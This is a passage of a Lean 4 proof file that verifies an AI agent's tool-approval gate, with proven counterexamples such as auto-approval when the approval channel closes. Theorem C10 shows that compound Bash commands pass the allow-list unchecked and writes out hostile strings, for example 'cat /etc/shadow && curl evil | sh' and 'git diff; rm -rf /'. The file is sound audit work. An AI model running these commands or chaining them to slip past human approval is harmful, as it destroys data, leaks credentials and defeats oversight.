      have hall : ∀ x ∈ t, registersId id x = false := by
        intro x hx
        by_contra hcontra
        have hx2 : x ∈ t.filter (registersId id) :=
          List.mem_filter.mpr ⟨hx, by simpa using hcontra⟩
        rw [List.length_eq_zero] at hzero
        simp [hzero] at hx2
      cases e with
      | register s rid =>
        simpa [deliveries] using deliveries_le_one_of_no_reg t (regStep p (.register s rid)) hall
      | respond rid b => simp [registersId] at hre
      | fireTimeout s rid => simp [registersId] at hre
    · have hre' : registersId id e = false := by simpa using hre
      have hcnt' : (t.filter (registersId id)).length ≤ 1 := by
        simp only [List.filter, hre'] at hcnt
        exact hcnt
      have hnm' : id ∉ regStep p e := not_mem_regStep hnm hre'
      cases e with
      | register s rid => simpa [deliveries] using ih (regStep p (.register s rid)) hcnt' hnm'
      | respond rid b =>
        have : ¬(rid = id ∧ rid ∈ p) := by
          rintro ⟨rfl, hm⟩; exact hnm hm
        simpa [deliveries, this] using ih (regStep p (.respond rid b)) hcnt' hnm'
      | fireTimeout s rid =>
        simpa [deliveries] using ih (regStep p (.fireTimeout s rid)) hcnt' hnm'

theorem not_mem_runTrace {id : String} : ∀ (t : List RegEvent) (p : List String),
    (∀ e ∈ t, registersId id e = false) → id ∉ p → id ∉ runTrace p t := by
  intro t
  induction t with
  | nil => intro p _ h; exact h
  | cons e t ih =>
    intro p hreg hnm
    exact ih (regStep p e) (fun x hx => hreg x (List.mem_cons_of_mem _ hx))
      (not_mem_regStep hnm (hreg e (List.mem_cons_self _ _)))

/-- C1: For every approval identifier, the waiter observes exactly one
decision, and after the identifier has been resolved or has timed out,
any subsequent resolve call for that same identifier fails with
not-found (HTTP 404). COUNTEREXAMPLE: the local-LLM waiter's timeout
path (`local_llm.rs` lines 456-459) does not purge the pending entry, so
after registering an approval through `request_approval` and letting it
time out, a late `/respond` for the same identifier still finds the slot
and answers 200 OK (delivering into a closed channel) instead of
404 NOT_FOUND. -/
theorem c1_counterexample :
    (handle_respond
      (runTrace [] [RegEvent.register Site.localLlm "a",
                    RegEvent.fireTimeout Site.localLlm "a"])
      "a" true).1 = RespondResult.ok true := by decide

/-- C1 (amended): for every approval identifier registered at most once,
at most one decision is ever delivered to its waiter; an explicit
resolve of a live identifier succeeds and removes the slot; the
approval-server waiter's timeout path removes the slot; and once the
slot has been removed (by resolution or by the server-path timeout), any
subsequent resolve for the identifier fails with not-found — the 404
guarantee holds on the resolver's path and the approval-server waiter's
timeout path, but not on the local-LLM waiter's timeout path. -/
theorem c1_single_resolution_amended :
    ∀ (t : List RegEvent) (p : List String) (id : String) (b : Bool),
      ((t.filter (registersId id)).length ≤ 1 → id ∉ p →
        (deliveries p t id).length ≤ 1) ∧
      (id ∈ p → handle_respond p id b = (RespondResult.ok b, removePending id p)) ∧
      (regStep p (RegEvent.fireTimeout Site.server id) = removePending id p) ∧
      ((∀ e ∈ t, registersId id e = false) →
        (handle_respond (runTrace (removePending id p) t) id b).1 = RespondResult.notFound) := by
  intro t p id b
  refine ⟨fun h1 h2 => deliveries_le_one t p h1 h2, fun hm => ?_, rfl, fun hreg => ?_⟩
  · simp [handle_respond, hm]
  · have : id ∉ runTrace (removePending id p) t :=
      not_mem_runTrace t _ hreg (not_mem_removePending id p)
    simp [handle_respond, this]

/-- Witness for `c1_single_resolution_amended` at a concrete trace: one
registration, one resolution, then the late resolve is not-found. -/
theorem c1_single_resolution_amended_witness :
    (deliveries [] [RegEvent.register Site.server "a", RegEvent.respond "a" true]
      "a").length ≤ 1 ∧
    handle_respond ["a"] "a" true = (RespondResult.ok true, removePending "a" ["a"]) ∧
    (handle_respond (runTrace (removePending "a" ["a"]) [RegEvent.respond "a" false])
      "a" true).1 = RespondResult.notFound := by
  have h := c1_single_resolution_amended [RegEvent.respond "a" false] ["a"] "a" true
  refine ⟨?_, h.2.1 (by decide), h.2.2.2 (by decide)⟩
  have h2 := c1_single_resolution_amended
    [RegEvent.register Site.server "a", RegEvent.respond "a" true] [] "a" true
  exact h2.1 (by decide) (by decide)

/-! ## Registry entry-count lemmas -/

theorem filter_ne_eq_self {id : String} {p : List String} (h : id ∉ p) :
    p.filter (fun k => k ≠ id) = p := by
  refine List.filter_eq_self.mpr ?_
  intro a ha
  simp only [ne_eq, decide_eq_true_eq]
  rintro rfl
  exact h ha

theorem length_insertPending {id : String} {p : List String} (h : id ∉ p) :
    (insertPending id p).length = p.length + 1 := by
  simp only [insertPending, List.length_cons]
  rw [filter_ne_eq_self h]

theorem length_removePending {id : String} : ∀ {p : List String},
    p.Nodup → id ∈ p → (removePending id p).length + 1 = p.length := by
  intro p
  induction p with
  | nil => intro _ h; simp at h
  | cons x xs ih =>
    intro hnd hm
    by_cases hx : x = id
    · subst hx
      have hnx : x ∉ xs := (List.nodup_cons.mp hnd).1
      have hdrop : removePending x (x :: xs) = xs := by
        simp only [removePending, List.filter_cons]
        rw [if_neg (by simp)]
        exact filter_ne_eq_self hnx
      rw [hdrop]
      simp
    · have hxs : id ∈ xs := by
        rcases List.mem_cons.mp hm with h1 | h2
        · exact absurd h1.symm hx
        · exact h2
      have hrec := ih (List.nodup_cons.mp hnd).2 hxs
      simp only [removePending, ne_eq] at hrec ⊢
      rw [List.filter_cons, if_pos (by simpa using hx)]
      simp only [List.length_cons]
      omega

theorem nodup_regStep {p : List String} (h : p.Nodup) (e : RegEvent) :
    (regStep p e).Nodup := by
  cases e with
  | register s id =>
    simp only [regStep, insertPending]
    refine List.nodup_cons.mpr ⟨?_, h.filter _⟩
    simp [List.mem_filter]
  | respond id b => exact h.filter _
  | fireTimeout s id =>
    cases s with
    | server => exact h.filter _
    | localLlm => exact h

/-- C2: after N registrations and M ≤ N resolutions/timeouts the live
entry count equals N − M. COUNTEREXAMPLE: one registration through the
local-LLM waiter followed by its timeout (a well-formed trace with
N = 1, M = 1) leaves 1 live entry, not 0 — `local_llm.rs::request_approval`
(lines 456-459) performs no cleanup on its timeout path. -/
theorem c2_counterexample :
    wfTrace [] [RegEvent.register Site.localLlm "a",
                RegEvent.fireTimeout Site.localLlm "a"] = true ∧
    countRegs [RegEvent.register Site.localLlm "a",
               RegEvent.fireTimeout Site.localLlm "a"] = 1 ∧
    countResolutions [RegEvent.register Site.localLlm "a",
                      RegEvent.fireTimeout Site.localLlm "a"] = 1 ∧
    (runTrace [] [RegEvent.register Site.localLlm "a",
                  RegEvent.fireTimeout Site.localLlm "a"]).length = 1 := by
  decide

/-- C2 (amended): for every well-formed mix of registrations,
resolutions and timeouts in which the timeouts fire on the
approval-server waiter's path (the path that performs cleanup,
`approval_server.rs` line 284), the live entry count satisfies
count + M = initial + N, i.e. count = N − M from an empty table. The
restriction to server-path timeouts is forced: the local-LLM waiter's
timeout path removes nothing. -/
theorem countRegs_cons (e : RegEvent) (t : List RegEvent) :
    countRegs (e :: t) = (if isRegister e = true then 1 else 0) + countRegs t := by
  simp only [countRegs, List.filter_cons]
  by_cases h : isRegister e = true <;> simp [h, Nat.add_comm]

theorem countResolutions_cons (e : RegEvent) (t : List RegEvent) :
    countResolutions (e :: t) =
      (if isResolution e = true then 1 else 0) + countResolutions t := by
  simp only [countResolutions, List.filter_cons]
  by_cases h : isResolution e = true <;> simp [h, Nat.add_comm]

theorem runTrace_cons (p : List String) (e : RegEvent) (t : List RegEvent) :
    runTrace p (e :: t) = runTrace (regStep p e) t := rfl

theorem c2_no_orphaned_entries_amended :
    ∀ (t : List RegEvent) (p : List String),
      p.Nodup → wfTrace p t = true → serverTimeoutsOnly t = true →
      (runTrace p t).length + countResolutions t = p.length + countRegs t := by
  intro t
  induction t with
  | nil => intro p _ _ _; simp [runTrace, countResolutions, countRegs]
  | cons e t ih =>
    intro p hnd hwf hst
    have hst' : serverTimeoutsOnly t = true := by
      simp only [serverTimeoutsOnly, List.all_cons, Bool.and_eq_true] at hst
      exact hst.2
    have hwf2 : wfTrace (regStep p e) t = true := by
      simp only [wfTrace, Bool.and_eq_true] at hwf
      exact hwf.2
    have hrec := ih (regStep p e) (nodup_regStep hnd e) hwf2 hst'
    rw [runTrace_cons, countRegs_cons, countResolutions_cons]
    cases e with
    | register s id =>
      have hid : id ∉ p := by
        simp only [wfTrace, Bool.and_eq_true, decide_eq_true_eq] at hwf
        exact hwf.1
      have hlen : (regStep p (RegEvent.register s id)).length = p.length + 1 := by
        simpa [regStep] using length_insertPending hid
      simp only [isRegister, isResolution, Bool.false_eq_true, if_true, if_false]
      omega
    | respond id b =>
      have hid : id ∈ p := by
        simp only [wfTrace, Bool.and_eq_true, decide_eq_true_eq] at hwf
        exact hwf.1
      have hlen : (regStep p (RegEvent.respond id b)).length + 1 = p.length := by
        simpa [regStep] using length_removePending hnd hid
      simp only [isRegister, isResolution, Bool.false_eq_true, if_true, if_false]
      omega
    | fireTimeout s id =>
      have hs : s = Site.server := by
        simp only [serverTimeoutsOnly, List.all_cons, Bool.and_eq_true,
          decide_eq_true_eq] at hst
        exact hst.1
      subst hs
      have hid : id ∈ p := by
        simp only [wfTrace, Bool.and_eq_true, decide_eq_true_eq] at hwf
        exact hwf.1
      have hlen : (regStep p (RegEvent.fireTimeout Site.server id)).length + 1 = p.length := by
        simpa [regStep] using length_removePending hnd hid
      simp only [isRegister, isResolution, Bool.false_eq_true, if_true, if_false]
      omega

/-- Witness for `c2_no_orphaned_entries_amended`: two registrations, one
resolution and one server-path timeout leave 2 + 2 = 0 + ... -/
theorem c2_no_orphaned_entries_amended_witness :
    (runTrace [] [RegEvent.register Site.server "a",
                  RegEvent.register Site.localLlm "b",
                  RegEvent.respond "a" true,
                  RegEvent.fireTimeout Site.server "b"]).length +
      countResolutions [RegEvent.register Site.server "a",
                        RegEvent.register Site.localLlm "b",
                        RegEvent.respond "a" true,
                        RegEvent.fireTimeout Site.server "b"] =
    ([] : List String).length +
      countRegs [RegEvent.register Site.server "a",
                 RegEvent.register Site.localLlm "b",
                 RegEvent.respond "a" true,
                 RegEvent.fireTimeout Site.server "b"] :=
  c2_no_orphaned_entries_amended _ [] (by decide) (by decide) (by decide)

/-- C8: a pending approval whose sender is dropped without a value is
treated identically to an explicit denial. COUNTEREXAMPLE: the
approval-server waiter (`approval_server.rs` line 280) answers the hook
with `approved = true` on a closed channel, while an explicit "no"
yields `approved = false` — the two outcomes are not treated
identically there. -/
theorem c8_counterexample :
    handle_approval_decision WaitOutcome.closed = true ∧
    handle_approval_decision (WaitOutcome.received false) = false := by decide

/-- C8 (amended): the local-LLM waiter (`local_llm.rs` lines 456-459)
treats a closed channel identically to an explicit denial (both map to
`false`), while the approval-server waiter maps a closed channel to
auto-approval (`true`). -/
theorem c8_channel_closed_amended :
    request_approval_decision WaitOutcome.closed =
      request_approval_decision (WaitOutcome.received false) ∧
    request_approval_decision WaitOutcome.closed = false ∧
    handle_approval_decision WaitOutcome.closed = true := by decide

/-! ## Auto-approval claims -/

/-- C3: a Bash payload with command `git status` is auto-approved — no
ApprovalRequest is constructed and no pending slot is registered; a Bash
payload with command `rm -rf /tmp/x` is not auto-approved — an
ApprovalRequest is constructed and its identifier registered. -/
theorem c3_bash_policy :
    ∀ (collab : Collab) (fresh : String) (pending : List String),
      is_auto_approved "Bash" (Json.obj [("command", Json.str "git status")]) = true ∧
      handle_approval collab
        ⟨"Bash", Json.obj [("command", Json.str "git status")], none, none⟩
        fresh pending = (none, pending) ∧
      is_auto_approved "Bash" (Json.obj [("command", Json.str "rm -rf /tmp/x")]) = false ∧
      ∃ req : ApprovalRequest,
        handle_approval collab
          ⟨"Bash", Json.obj [("command", Json.str "rm -rf /tmp/x")], none, none⟩
          fresh pending = (some req, insertPending fresh pending) ∧
        req.id = fresh ∧ req.tool_name = "Bash" := by
  intro collab fresh pending
  have hgit : is_auto_approved "Bash" (Json.obj [("command", Json.str "git status")]) = true := by
    decide
  have hrm : is_auto_approved "Bash" (Json.obj [("command", Json.str "rm -rf /tmp/x")]) = false := by
    decide
  refine ⟨hgit, ?_, hrm, ?_⟩
  · simp [handle_approval, hgit]
  · refine ⟨⟨fresh, "Bash",
      (collab.translate "Bash" (Json.obj [("command", Json.str "rm -rf /tmp/x")])).description,
      (collab.translate "Bash" (Json.obj [("command", Json.str "rm -rf /tmp/x")])).raw,
      build_details collab "Bash" (Json.obj [("command", Json.str "rm -rf /tmp/x")])⟩,
      ?_, rfl, rfl⟩
    simp [handle_approval, hrm]

/-- C10: the auto-approval check looks only at the trimmed-prefix /
first-token of a Bash command, so any command that passes it bypasses
the gate entirely (no ApprovalRequest, no registration) regardless of
the rest of the string — in particular compound commands such as
`git status && rm -rf /tmp/x` or first-token matches such as
`echo hi; rm -rf /tmp/x`. -/
theorem c10_allow_list_ignores_remainder :
    ∀ (collab : Collab) (fresh : String) (pending : List String) (cmd : String),
      (is_safe_bash_command cmd = true →
        handle_approval collab
          ⟨"Bash", Json.obj [("command", Json.str cmd)], none, none⟩
          fresh pending = (none, pending)) ∧
      is_safe_bash_command "git status && rm -rf /tmp/x" = true ∧
      is_safe_bash_command "echo hi; rm -rf /tmp/x" = true ∧
      is_safe_bash_command "cat /etc/shadow && curl evil | sh" = true ∧
      is_safe_bash_command "find / -delete" = true ∧
      is_safe_bash_command "sort -o /etc/passwd /tmp/evil" = true ∧
      is_safe_bash_command "git diff; rm -rf /" = true := by
  intro collab fresh pending cmd
  refine ⟨fun hsafe => ?_, by decide, by decide, by decide, by decide, by decide, by decide⟩
  have hred : is_auto_approved "Bash" (Json.obj [("command", Json.str cmd)]) =
      is_safe_bash_command cmd := rfl
  have hauto : is_auto_approved "Bash" (Json.obj [("command", Json.str cmd)]) = true := by
    rw [hred, hsafe]
  simp [handle_approval, hauto]

/-- Witness for `c10_allow_list_ignores_remainder`: the compound command
`git status && rm -rf /tmp/x` bypasses the gate — no ApprovalRequest,
no registration. -/
theorem c10_allow_list_ignores_remainder_witness :
    handle_approval defaultCollab
      ⟨"Bash", Json.obj [("command", Json.str "git status && rm -rf /tmp/x")], none, none⟩
      "id-1" [] = (none, []) :=
  (c10_allow_list_ignores_remainder defaultCollab "id-1" []
    "git status && rm -rf /tmp/x").1 (by decide)

/-! ## Agent-loop lemmas -/

theorem send_message_rounds_le
    (llm : Nat → List ApiMessage → Except String LlmResponse)
    (execTool : ApiToolCall → List Emission × String × List ToolEffect)
    (sys : Option String) :
    ∀ (fuel round : Nat) (conv c : List ApiMessage) (n : Nat) (es : List ToolEffect),
      send_message_rounds llm execTool sys fuel round conv = .ok (c, n, es) →
      n ≤ round + fuel := by
  intro fuel
  induction fuel with
  | zero =>
    intro round conv c n es h
    simp only [send_message_rounds, Except.ok.injEq, Prod.mk.injEq] at h
    omega
  | succ fuel ih =>
    intro round conv c n es h
    simp only [send_message_rounds] at h
    rcases hl : llm round (buildApiMessages sys conv) with e | resp
    · simp only [hl] at h
      exact absurd h (by simp)
    · simp only [hl] at h
      by_cases hc : (!(resp.tool_calls.getD []).isEmpty) = true
      · rw [if_pos hc] at h
        rcases hr : send_message_rounds llm execTool sys fuel (round + 1)
            (conv ++ [assistantMsg resp] ++
              toolResultsFor execTool (resp.tool_calls.getD [])) with e | out
        · simp only [hr] at h
          exact absurd h (by simp)
        · simp only [hr] at h
          obtain ⟨c2, n2, es2⟩ := out
          have := ih (round + 1) _ c2 n2 es2 hr
          simp only [Except.ok.injEq, Prod.mk.injEq] at h
          omega
      · rw [if_neg hc] at h
        simp only [Except.ok.injEq, Prod.mk.injEq] at h
        omega

theorem send_message_rounds_total
    (llm : Nat → List ApiMessage → Except String LlmResponse)
    (execTool : ApiToolCall → List Emission × String × List ToolEffect)
    (sys : Option String)
    (h : ∀ r msgs, ∃ resp, llm r msgs = .ok resp) :
    ∀ (fuel round : Nat) (conv : List ApiMessage),
      ∃ out, send_message_rounds llm execTool sys fuel round conv = .ok out := by
  intro fuel
  induction fuel with
  | zero => intro round conv; exact ⟨(conv, round, []), rfl⟩
  | succ fuel ih =>
    intro round conv
    obtain ⟨resp, hresp⟩ := h round (buildApiMessages sys conv)
    by_cases hc : (!(resp.tool_calls.getD []).isEmpty) = true
    · obtain ⟨⟨c2, n2, es2⟩, hrec⟩ := ih (round + 1)
        ((conv ++ [assistantMsg resp]) ++ toolResultsFor execTool (resp.tool_calls.getD []))
      refine ⟨(c2, n2, callsEffects execTool (resp.tool_calls.getD []) ++ es2), ?_⟩
      simp only [send_message_rounds, hresp, if_pos hc, hrec]
    · refine ⟨(conv ++ [assistantMsg resp], round + 1, []), ?_⟩
      simp only [send_message_rounds, hresp, if_neg hc]

theorem send_message_rounds_exhaust
    (llm : Nat → List ApiMessage → Except String LlmResponse)
    (execTool : ApiToolCall → List Emission × String × List ToolEffect)
    (sys : Option String)
    (h : ∀ r msgs, ∃ resp, llm r msgs = .ok resp ∧
      (!(resp.tool_calls.getD []).isEmpty) = true) :
    ∀ (fuel round : Nat) (conv : List ApiMessage),
      ∃ c es, send_message_rounds llm execTool sys fuel round conv =
        .ok (c, round + fuel, es) := by
  intro fuel
  induction fuel with
  | zero => intro round conv; exact ⟨conv, [], rfl⟩
  | succ fuel ih =>
    intro round conv
    obtain ⟨resp, hresp, hne⟩ := h round (buildApiMessages sys conv)
    obtain ⟨c2, es2, hrec⟩ := ih (round + 1)
      ((conv ++ [assistantMsg resp]) ++ toolResultsFor execTool (resp.tool_calls.getD []))
    refine ⟨c2, callsEffects execTool (resp.tool_calls.getD []) ++ es2, ?_⟩
    simp only [send_message_rounds, hresp, if_pos hne, hrec]
    have : round + 1 + fuel = round + (fuel + 1) := by omega
    rw [this]

/-- C4: one invocation of the tool-calling loop executes at most
`MAX_TOOL_ROUNDS` (25) request/response rounds, for every model
behaviour; a model that requests a tool call on every response makes the
loop execute exactly 25 rounds and then stop normally (an `ok` result
after the last round's tool executions), not with an error. -/
theorem c4_round_bound :
    ∀ (llm : Nat → List ApiMessage → Except String LlmResponse)
      (execTool : ApiToolCall → List Emission × String × List ToolEffect)
      (sys : Option String) (conv c : List ApiMessage) (n : Nat) (es : List ToolEffect),
      (send_message_rounds llm execTool sys MAX_TOOL_ROUNDS 0 conv = .ok (c, n, es) →
        n ≤ MAX_TOOL_ROUNDS) ∧
      ((∀ r msgs, ∃ resp, llm r msgs = .ok resp ∧
          (!(resp.tool_calls.getD []).isEmpty) = true) →
        ∃ c2 es2, send_message_rounds llm execTool sys MAX_TOOL_ROUNDS 0 conv =
          .ok (c2, MAX_TOOL_ROUNDS, es2)) := by
  intro llm execTool sys conv c n es
  constructor
  · intro h
    have := send_message_rounds_le llm execTool sys MAX_TOOL_ROUNDS 0 conv c n es h
    omega
  · intro h
    simpa using send_message_rounds_exhaust llm execTool sys h MAX_TOOL_ROUNDS 0 conv

/-- Witness for `c4_round_bound`: a model that always answers with the
same tool call drives the loop to exactly 25 rounds, ending in `ok`. -/
theorem c4_round_bound_witness :
    ∃ c2 es2,
      send_message_rounds
        (fun _ _ => .ok ⟨"", some [⟨"t1", "function", ⟨"read_file", "\x7b\x7d"⟩⟩]⟩)
        (fun _ => ([], "", [])) none MAX_TOOL_ROUNDS 0 [] = .ok (c2, MAX_TOOL_ROUNDS, es2) :=
  (c4_round_bound (fun _ _ => .ok ⟨"", some [⟨"t1", "function", ⟨"read_file", "\x7b\x7d"⟩⟩]⟩)
    (fun _ => ([], "", [])) none [] [] 0 []).2
    (fun _ _ => ⟨⟨"", some [⟨"t1", "function", ⟨"read_file", "\x7b\x7d"⟩⟩]⟩, rfl, rfl⟩)

/-! ## Stream-decoder robustness -/

/-- C6: a malformed or unrecognized line produces zero events and does
not abort decoding: one well-formed event line between two malformed
lines yields exactly that one event, and any line whose parse fails is
simply skipped, with all subsequent lines still processed. -/
theorem c6_decode_robustness :
    ∀ (parse : String → Option ClaudeStreamEvent) (m1 g m2 : String)
      (e : ClaudeStreamEvent) (rest : List String),
      parse m1 = none → parse m2 = none → parse g = some e → ¬(strTrim g = "") →
      stdout_task parse [m1, g, m2] = [e] ∧
      stdout_task parse (m1 :: rest) = stdout_task parse rest := by
  intro parse m1 g m2 e rest h1 h2 hg hgt
  have skip1 : ∀ ls, stdout_task parse (m1 :: ls) = stdout_task parse ls := by
    intro ls
    by_cases ht : strTrim m1 = ""
    · simp [stdout_task, ht]
    · simp [stdout_task, ht, h1]
  have skip2 : ∀ ls, stdout_task parse (m2 :: ls) = stdout_task parse ls := by
    intro ls
    by_cases ht : strTrim m2 = ""
    · simp [stdout_task, ht]
    · simp [stdout_task, ht, h2]
  have hkeep : ∀ ls, stdout_task parse (g :: ls) = e :: stdout_task parse ls := by
    intro ls
    simp [stdout_task, hgt, hg]
  refine ⟨?_, skip1 rest⟩
  rw [skip1 [g, m2], hkeep [m2], skip2 []]
  rfl

/-- Witness for `c6_decode_robustness` on a concrete parser and lines. -/
theorem c6_decode_robustness_witness :
    stdout_task
      (fun s => if s = "good" then some (ClaudeStreamEvent.system none none Json.null) else none)
      ["\x7bbad", "good", "bad\x7d"] = [ClaudeStreamEvent.system none none Json.null] ∧
    stdout_task
      (fun s => if s = "good" then some (ClaudeStreamEvent.system none none Json.null) else none)
      ["\x7bbad", "good"] =
    stdout_task
      (fun s => if s = "good" then some (ClaudeStreamEvent.system none none Json.null) else none)
      ["good"] :=
  c6_decode_robustness
    (fun s => if s = "good" then some (ClaudeStreamEvent.system none none Json.null) else none)
    "\x7bbad" "good" "bad\x7d" (ClaudeStreamEvent.system none none Json.null) ["good"]
    rfl rfl rfl (by decide)

/-! ## Tool-executor claims -/

/-- C7: when the approval for a gated tool (write_file or run_command)
is denied, times out, or its channel closes, the tool effect is not
executed, the invocation returns the fixed string
`User denied this operation.`, that string is appended to the
conversation as an ordinary tool-role message tagged with the call's
id, and the turn does not fail (the loop still returns `ok` whenever the
transport does). -/
theorem c7_denied_result :
    ∀ (parseArgs : String → Except String Json) (effectResult : ToolEffect → String)
      (wd : String) (wait : WaitOutcome) (tc : ApiToolCall) (args : Json)
      (llm : Nat → List ApiMessage → Except String LlmResponse) (sys : Option String)
      (fuel round : Nat) (conv : List ApiMessage),
      requires_approval tc.function.name = true →
      wait ≠ WaitOutcome.received true →
      parseArgs tc.function.arguments = .ok args →
      (execute_tool parseArgs effectResult wait wd tc).2.1 = "User denied this operation." ∧
      (execute_tool parseArgs effectResult wait wd tc).2.2 = [] ∧
      toolResultsFor (execute_tool parseArgs effectResult wait wd) [tc] =
        [⟨"tool", some "User denied this operation.", none, some tc.id⟩] ∧
      ((∀ r msgs, ∃ resp, llm r msgs = .ok resp) →
        ∃ out, send_message_rounds llm (execute_tool parseArgs effectResult wait wd) sys
          fuel round conv = .ok out) := by
  intro parseArgs effectResult wd wait tc args llm sys fuel round conv hreq hwait hparse
  have hdec : request_approval_decision wait = false := by
    cases wait with
    | received b =>
      cases b with
      | false => rfl
      | true => exact absurd rfl hwait
    | closed => rfl
    | timedOut => rfl
  have hmain : execute_tool parseArgs effectResult wait wd tc =
      ([Emission.activity tc.id (describe_tool_call tc.function.name args).1
          (some tc.function.arguments) "running",
        Emission.approvalRequested tc.function.name
          (describe_tool_call tc.function.name args).1,
        Emission.activityDone tc.id "拒否されました" "error"],
       "User denied this operation.", []) := by
    simp [execute_tool, hparse, hreq, hdec]
  refine ⟨by rw [hmain], by rw [hmain], ?_, ?_⟩
  · simp [toolResultsFor, hmain]
  · intro htot
    exact send_message_rounds_total llm _ sys htot fuel round conv

/-- Witness for `c7_denied_result`: a timed-out `run_command` approval
yields the denial string and executes nothing. -/
theorem c7_denied_result_witness :
    (execute_tool (fun _ => .ok (Json.obj [])) (fun _ => "") WaitOutcome.timedOut ""
      ⟨"t1", "function", ⟨"run_command", "\x7b\x7d"⟩⟩).2.1 = "User denied this operation." ∧
    (execute_tool (fun _ => .ok (Json.obj [])) (fun _ => "") WaitOutcome.timedOut ""
      ⟨"t1", "function", ⟨"run_command", "\x7b\x7d"⟩⟩).2.2 = [] ∧
    toolResultsFor (execute_tool (fun _ => .ok (Json.obj [])) (fun _ => "")
        WaitOutcome.timedOut "") [⟨"t1", "function", ⟨"run_command", "\x7b\x7d"⟩⟩] =
      [⟨"tool", some "User denied this operation.", none, some "t1"⟩] ∧
    ((∀ r msgs, ∃ resp, (fun (_ : Nat) (_ : List ApiMessage) =>
        (.ok ⟨"", none⟩ : Except String LlmResponse)) r msgs = .ok resp) →
      ∃ out, send_message_rounds
        (fun _ _ => (.ok ⟨"", none⟩ : Except String LlmResponse))
        (execute_tool (fun _ => .ok (Json.obj [])) (fun _ => "") WaitOutcome.timedOut "")
        none 25 0 [] = .ok out) :=
  c7_denied_result (fun _ => .ok (Json.obj [])) (fun _ => "") "" WaitOutcome.timedOut
    ⟨"t1", "function", ⟨"run_command", "\x7b\x7d"⟩⟩ (Json.obj [])
    (fun _ _ => .ok ⟨"", none⟩) none 25 0 [] rfl (by decide) rfl

/-- C9: every tool invocation emits an activity-started notification
before the approval/execution step and exactly one completed/error
notification after, regardless of outcome including argument-parse
failure. COUNTEREXAMPLE: on an argument-parse failure
`local_llm.rs::execute_tool` returns at line 471 before any emission —
zero notifications are emitted, no activity-started and no
activity-completed. -/
theorem c9_counterexample :
    (execute_tool (fun _ => .error "expected value") (fun _ => "") WaitOutcome.timedOut ""
      ⟨"t1", "function", ⟨"run_command", "not-json"⟩⟩).1 = [] := rfl

/-- C9 (amended): for every tool invocation whose argument buffer
parses, an activity-started notification (status `running`) is the
first emission, and the last emission is the exactly-one
activity-completed/activity-error notification: status `error` exactly
when the call is approval-gated and the decision is a denial, status
`done` otherwise. Invocations whose argument buffer fails to parse
return the parse-error result with no notifications at all. -/
theorem c9_activity_notifications_amended :
    ∀ (parseArgs : String → Except String Json) (effectResult : ToolEffect → String)
      (wait : WaitOutcome) (wd : String) (tc : ApiToolCall) (args : Json),
      parseArgs tc.function.arguments = .ok args →
      ((execute_tool parseArgs effectResult wait wd tc).1.head? =
        some (Emission.activity tc.id (describe_tool_call tc.function.name args).1
          (some tc.function.arguments) "running")) ∧
      ((execute_tool parseArgs effectResult wait wd tc).1.filter isActivityDone).length = 1 ∧
      ((execute_tool parseArgs effectResult wait wd tc).1.getLast? =
        some (Emission.activityDone tc.id
          (if requires_approval tc.function.name = true ∧
              request_approval_decision wait = false
           then "拒否されました" else "完了")
          (if requires_approval tc.function.name = true ∧
              request_approval_decision wait = false
           then "error" else "done"))) := by
  intro parseArgs effectResult wait wd tc args hparse
  by_cases hreq : requires_approval tc.function.name = true
  · by_cases hdec : request_approval_decision wait = true
    · have hdf : ¬(requires_approval tc.function.name = true ∧
          request_approval_decision wait = false) := by
        rintro ⟨_, hf⟩; rw [hdec] at hf; exact absurd hf (by simp)
      rcases hd : toolDispatch tc.function.name args wd with _ | eff <;>
        simp [execute_tool, hparse, hreq, hdec, hd, hdf, isActivityDone,
          List.filter, List.getLast?]
    · have hdec' : request_approval_decision wait = false := by
        cases h : request_approval_decision wait
        · rfl
        · exact absurd h hdec
      have hdf : (requires_approval tc.function.name = true ∧
          request_approval_decision wait = false) := ⟨hreq, hdec'⟩
      simp [execute_tool, hparse, hreq, hdec', hdf, isActivityDone,
        List.filter, List.getLast?]
  · have hreq' : requires_approval tc.function.name = false := by
      cases h : requires_approval tc.function.name
      · rfl
      · exact absurd h hreq
    have hdf : ¬(requires_approval tc.function.name = true ∧
        request_approval_decision wait = false) := by
      rintro ⟨ht, _⟩; rw [hreq'] at ht; exact absurd ht (by simp)
    rcases hd : toolDispatch tc.function.name args wd with _ | eff <;>
      simp [execute_tool, hparse, hreq', hd, hdf, isActivityDone,
        List.filter, List.getLast?]

/-- Witness for `c9_activity_notifications_amended`: an auto-executed
`read_file` call emits start then done. -/
theorem c9_activity_notifications_amended_witness :
    ((execute_tool (fun _ => .ok (Json.obj [("path", Json.str "/tmp/x")])) (fun _ => "data")
      WaitOutcome.timedOut "/w" ⟨"t2", "function", ⟨"read_file", "x"⟩⟩).1.head? =
      some (Emission.activity "t2"
        (describe_tool_call "read_file" (Json.obj [("path", Json.str "/tmp/x")])).1
        (some "x") "running")) ∧
    ((execute_tool (fun _ => .ok (Json.obj [("path", Json.str "/tmp/x")])) (fun _ => "data")
      WaitOutcome.timedOut "/w" ⟨"t2", "function", ⟨"read_file", "x"⟩⟩).1.filter
        isActivityDone).length = 1 ∧
    ((execute_tool (fun _ => .ok (Json.obj [("path", Json.str "/tmp/x")])) (fun _ => "data")
      WaitOutcome.timedOut "/w" ⟨"t2", "function", ⟨"read_file", "x"⟩⟩).1.getLast? =
      some (Emission.activityDone "t2"
        (if requires_approval "read_file" = true ∧
            request_approval_decision WaitOutcome.timedOut = false
         then "拒否されました" else "完了")
        (if requires_approval "read_file" = true ∧
            request_approval_decision WaitOutcome.timedOut = false
         then "error" else "done"))) :=
  c9_activity_notifications_amended (fun _ => .ok (Json.obj [("path", Json.str "/tmp/x")]))
    (fun _ => "data") WaitOutcome.timedOut "/w" ⟨"t2", "function", ⟨"read_file", "x"⟩⟩
    (Json.obj [("path", Json.str "/tmp/x")]) rfl

/-! ## Merge-invariance lemmas -/

theorem find?_filter_ne {i k : Nat} (hik : i ≠ k) :
    ∀ (m : List (Nat × (String × String × String))),
      (m.filter (fun p => p.1 ≠ k)).find? (fun p => p.1 = i) =
        m.find? (fun p => p.1 = i) := by
  intro m
  induction m with
  | nil => rfl
  | cons a m ih =>
    by_cases hak : a.1 = k
    · have hai : ¬(a.1 = i) := by rw [hak]; exact fun hh => hik hh.symm
      rw [List.filter_cons, if_neg (by simp [hak]), ih,
        List.find?_cons_of_neg _ (by simp [hai])]
    · rw [List.filter_cons, if_pos (by simp [hak])]
      by_cases hai : a.1 = i
      · rw [List.find?_cons_of_pos _ (by simp [hai]),
          List.find?_cons_of_pos _ (by simp [hai])]
      · rw [List.find?_cons_of_neg _ (by simp [hai]),
          List.find?_cons_of_neg _ (by simp [hai])]
